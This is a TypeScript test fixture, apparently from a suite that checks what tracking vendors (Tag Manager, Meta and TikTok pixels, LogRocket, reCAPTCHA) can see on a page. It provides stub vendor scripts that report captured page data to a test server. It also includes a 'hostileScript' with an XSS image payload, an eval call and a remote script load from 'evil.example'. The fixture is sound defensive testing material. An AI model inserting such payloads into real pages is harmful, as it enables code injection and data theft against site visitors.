/**
 * Runs before each of them: tells the server what the vendor was given, with what any script of a page can see, and
 * when: requests may overtake one another.
 */
const prelude = (vendor: string, origin: string) => `
  var count = 0;
  var told = function (given) {
    var turn = [performance.timeOrigin, count++];
    var page = { url: location.href, title: document.title, referrer: document.referrer };
    fetch('${origin}/told/${vendor}', { method: 'POST', body: JSON.stringify({ given: given, turn: turn, page: page }) });
  };`;

const commandsOfGoogle = `
  var read = function (entry) {
    var command = Array.from(entry.length === undefined ? [entry] : entry);
    told(command);
    var options = command[2];
    if (options && options.event_callback) options.event_callback();
  };
  var before = window.dataLayer.slice();
  var push = window.dataLayer.push;
  window.dataLayer.push = function (entry) { read(entry); return push.call(window.dataLayer, entry); };
  before.forEach(read);`;

/** Stand-ins for the vendors' scripts: each takes over the queue that the real one takes over. */
export const vendorScripts: Readonly<Record<string, (origin: string) => string>> = {
  '/gtm.js': (origin) => `(function () {${prelude('tagManager', origin)}${commandsOfGoogle}})();`,
  '/gtag/js': (origin) => `(function () {${prelude('googleAds', origin)}${commandsOfGoogle}})();`,
  '/fbevents.js': (origin) => `(function () {${prelude('metaPixel', origin)}
    window.fbq.callMethod = function () { told(Array.from(arguments)); };
    window.fbq.queue.splice(0).forEach(told);
  })();`,
  '/tiktok.js': (origin) => `(function () {${prelude('tikTokPixel', origin)}
    window.ttq.splice(0).forEach(told);
    window.ttq.push = told;
  })();`,
  // What the recorder does not mask it sees: all text and all values of the page, at every event.
  '/logger.min.js': (origin) => `(function () {${prelude('logRocket', origin)}
    var masks = {};
    var look = function () {
      var inputs = Array.from(document.querySelectorAll('input, select, textarea')).map(function (each) { return each.value; });
      return { text: masks.textSanitizer ? '' : document.body.innerText, inputs: masks.inputSanitizer ? [] : inputs };
    };
    window._LRLogger = function () {
      return new Proxy({}, { get: function (_logger, method) {
        return function () {
          var given = Array.from(arguments);
          if (method === 'init') masks = (given[1] || {}).dom || {};
          told([method].concat(given, look()));
        };
      } });
    };
  })();`,
  '/recaptcha.js': () => `window.grecaptcha = {
    ready: function (then) { then(); },
    execute: function () { return Promise.resolve('token-of-the-captcha'); },
  };`,
};

/** A script that does the worst it can. */
export const hostileScript = `
  ['fbq', 'ttq', 'grecaptcha'].forEach(function (name) {
    Object.defineProperty(window, name, { get: function () { throw new Error('hostile'); } });
  });
  try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>'); } catch (refused) {}
  try { eval('1'); } catch (refused) {}
  var script = document.createElement('script');
  try { script.src = 'https://evil.example/a.js'; document.head.append(script); } catch (refused) {}
  throw new Error('hostile');`;
